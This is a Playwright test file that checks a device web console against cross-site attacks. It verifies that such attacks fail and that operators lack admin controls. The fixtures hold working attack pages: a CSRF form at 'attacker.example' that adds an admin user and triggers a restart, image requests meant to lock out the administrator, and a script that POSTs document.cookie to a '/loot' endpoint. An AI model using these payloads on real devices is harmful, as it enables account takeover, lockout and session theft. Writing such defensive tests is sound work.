import { chromium } from '@playwright/test';
import { SESSION_BINDING_COOKIE } from '@tac/goform/contract';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ADMIN, OPERATOR } from '../support/accounts';
import { chromiumLaunch } from '../support/browser';
import { apiLogin, goform, parseAnswer } from '../support/device';
import { expect, login, test } from '../support/fixtures';
import users from '../../remotes/users/src/locales/en.json';
import { en } from '../support/texts';
import { USER_PATHS, userPage } from '../support/paths';

/** An administrator user on the device (logs in to the console with full rights). */
async function ensureAdministratorUser(request: Parameters<typeof apiLogin>[0], userid: string) {
  const token = await apiLogin(request, ADMIN);
  const answer = await goform(request, 'adduser', { userid, username: 'Site Boss', password: '2468', confirm: '2468', admin: '1', overwrite: '1' }, token);
  expect(answer.code).toBe('success');
  return token;
}

test('an operator sees no Admin switch, and an administrator user read-only', async ({ page, request }) => {
  await ensureAdministratorUser(request, '9101');
  await login(page, OPERATOR);
  await page.goto(USER_PATHS.addUser);
  await expect(page.getByLabel(users.userList.fields.username)).toBeVisible();
  await expect(page.getByLabel(users.userList.fields.admin, { exact: true })).toHaveCount(0);

  await page.goto(userPage(USER_PATHS.userEdit, 9101));
  await expect(page.getByRole('note')).toHaveText(users.rights.administratorOnly);
  await expect(page.getByLabel(users.userList.fields.username)).toBeDisabled();
  await expect(page.getByRole('button', { name: en.common.save })).toHaveCount(0);

  await page.goto(USER_PATHS.userList);
  await page.getByLabel(users.list.search).fill('9101');
  await expect(page.getByText('Site Boss')).toBeVisible();
  await expect(page.getByRole('button', { name: users.list.deleteUser.replace('{{userid}}', '9101') })).toHaveCount(0);
});

test('a cross-site form post made while the administrator is logged in changes nothing', async ({ page, request, baseURL }) => {
  await login(page, ADMIN);
  // A page of another site that the logged-in administrator happens to open: it posts a
  // form to the device (the browser sends the device's cookies with it) and loads an image
  // that would restart it.
  const evil = 'http://attacker.example';
  await page.route(`${evil}/**`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>win a prize</title>
        <img src="${baseURL}/goform/RestartMachine" alt="">
        <form id="f" method="POST" action="${baseURL}/goform/adduser" enctype="application/x-www-form-urlencoded">
          <input name="userid" value="9202"><input name="username" value="Mallory">
          <input name="password" value="1234"><input name="confirm" value="1234"><input name="admin" value="1">
        </form>
        <script>document.getElementById('f').submit()</script>`,
    }),
  );
  const posted = page.waitForResponse((res) => res.url().includes('/goform/adduser'));
  await page.goto(`${evil}/prize`);
  const answer = await (await posted).text();
  expect(answer).toContain('"retvalue":10002');

  const token = await apiLogin(request, ADMIN);
  expect((await goform(request, 'GetUserInfo', { userid: '9202' }, token)).retvalue).toBe(40401);
  expect((await goform(request, 'chklogin', { userid: '9202', password: '1234' })).retvalue).toBe(40301);
  // The device did not restart: its calls still answer.
  expect((await goform(request, 'checkPower', {}, token)).code).toBe('success');
});

/**
 * Issue 31, finding 2: over plain HTTP to a LAN address Chromium sends neither `Origin` nor
 * `Sec-Fetch-Site` on an image's GET, so a page anywhere could lock the administrator out with
 * six images and put the display into test mode with a seventh. Here the device is reached by a
 * host name (mapped to 127.0.0.1, so not a "potentially trustworthy" origin: no Sec-Fetch headers,
 * as on a LAN), from a page served by another local server.
 */
test.describe('a drive-by page on another origin', () => {
  // The device's name on the site (scripts/e2e.mjs gives it ALLOWED_HOSTS, as its owner would).
  const DEVICE_HOST = 'terminal.lan.test';
  const PAGE_HOST = 'prize.lan.test';
  let server: Server;
  let pageUrl = '';
  let device = '';
  test.beforeAll(async ({ baseURL }) => {
    device = `http://${DEVICE_HOST}:${new URL(baseURL!).port}`;
    const body = `<!doctype html><title>win a prize</title><script>
      const device = ${JSON.stringify(device)};
      const load = (path) => new Promise((done) => { const img = new Image(); img.onload = img.onerror = done; img.src = device + path; });
      window.fired = (async () => {
        // Spaced past the back-off delays (1, 2, 4 s), so that each would count as a wrong password.
        for (const [i, wait] of [0, 100, 1100, 2100, 4100, 100].entries()) {
          await new Promise((later) => setTimeout(later, wait));
          await load('/goform/chklogin?userid=admin&password=x' + i);
        }
        await load('/goform/GetDebugParam?mode=test');
        return true;
      })();
    </script>`;
    server = createServer((_, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(body));
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    pageUrl = `http://${PAGE_HOST}:${(server.address() as AddressInfo).port}/prize`;
  });
  test.afterAll(() => new Promise<void>((closed) => server.close(() => closed())));

  test('cannot lock the administrator out nor change the device\'s mode', async ({ request, baseURL }) => {
    // A browser of its own, resolving the two host names (the configuration's launch options apply to every spec).
    const browser = await chromium.launch({
      ...chromiumLaunch,
      args: [...chromiumLaunch.args, `--host-resolver-rules=MAP ${DEVICE_HOST} 127.0.0.1, MAP ${PAGE_HOST} 127.0.0.1`],
    });
    const page = await (await browser.newContext({ baseURL })).newPage();
    const sent: Record<string, string>[] = [];
    page.on('request', (req) => {
      if (req.url().startsWith(`${device}/goform/`)) sent.push(req.headers());
    });
    await page.goto(pageUrl);
    expect(await page.evaluate(() => (window as unknown as { fired: Promise<boolean> }).fired)).toBe(true);
    // All seven reached the device (their answers are kept from the page by the browser), and as on a
    // LAN they carried neither Origin nor Sec-Fetch-Site: only the device's own rule can refuse them.
    expect(sent).toHaveLength(7);
    for (const headers of sent) {
      expect(headers.origin).toBeUndefined();
      expect(headers['sec-fetch-site']).toBeUndefined();
    }

    // The administrator then signs in through the console as usual.
    await login(page, ADMIN);
    expect((await goform(request, 'SetDebugParam')).mode).toBe('normal');
    await browser.close();
  });
});

test.describe('a page served from another port of the device\'s host', () => {
  // Cookies are not scoped by port: what the device sets, the browser also hands to this server.
  let server: Server;
  let received: { cookieHeader: string; pageRead: string } = { cookieHeader: '', pageRead: '' };
  let pageUrl = '';
  test.beforeAll(async ({ baseURL }) => {
    const body = `<!doctype html><title>printer status</title><script>
      fetch('/loot', { method: 'POST', body: document.cookie });
    </script>`;
    server = createServer((req, res) => {
      if (req.url !== '/loot') return res.writeHead(200, { 'content-type': 'text/html' }).end(body);
      let pageRead = '';
      req.on('data', (chunk: Buffer) => (pageRead += chunk.toString()));
      req.on('end', () => {
        received = { cookieHeader: req.headers.cookie ?? '', pageRead };
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((listening) => server.listen(0, new URL(baseURL!).hostname, listening));
    pageUrl = `http://${new URL(baseURL!).hostname}:${(server.address() as AddressInfo).port}/status`;
  });
  test.afterAll(() => new Promise<void>((closed) => server.close(() => closed())));

  test('neither reads the console\'s session nor can use what the browser sends it', async ({ page, baseURL }) => {
    const loginAnswer = page.waitForResponse((r) => r.url().includes('/goform/chklogin'));
    await login(page, ADMIN);
    const token = String(parseAnswer(await (await loginAnswer).text()).token);
    expect(token.length).toBeGreaterThan(20);

    const loot = page.waitForRequest((r) => r.url().endsWith('/loot'));
    await page.goto(pageUrl);
    await (await loot).response();
    // The script there reads no session; the server there gets the device's cookies, the binding among them.
    expect(received.pageRead).not.toContain(token);
    expect(received.pageRead).not.toContain(SESSION_BINDING_COOKIE);
    expect(received.cookieHeader).toContain(`${SESSION_BINDING_COOKIE}=`);

    // Whatever it holds, tried as a token with those cookies, opens nothing on the device.
    const values = [...received.cookieHeader.split(';'), ...received.pageRead.split(';')]
      .map((pair) => pair.split('=').slice(1).join('='))
      .filter(Boolean);
    for (const candidate of values) {
      const answer = await fetch(`${baseURL}/goform/checkPower`, {
        method: 'POST',
        headers: { cookie: received.cookieHeader, 'x-token': decodeURIComponent(candidate), 'x-requested-with': 'XMLHttpRequest' },
      });
      expect(await answer.json(), `tried ${candidate.slice(0, 12)}…`).toMatchObject({ code: 'fail', retvalue: 40104 });
    }
    // The console itself still works with both halves.
    await page.goBack();
    await expect(page.getByRole('button', { name: en.shell.navbar.userMenu })).toBeVisible();
  });
});
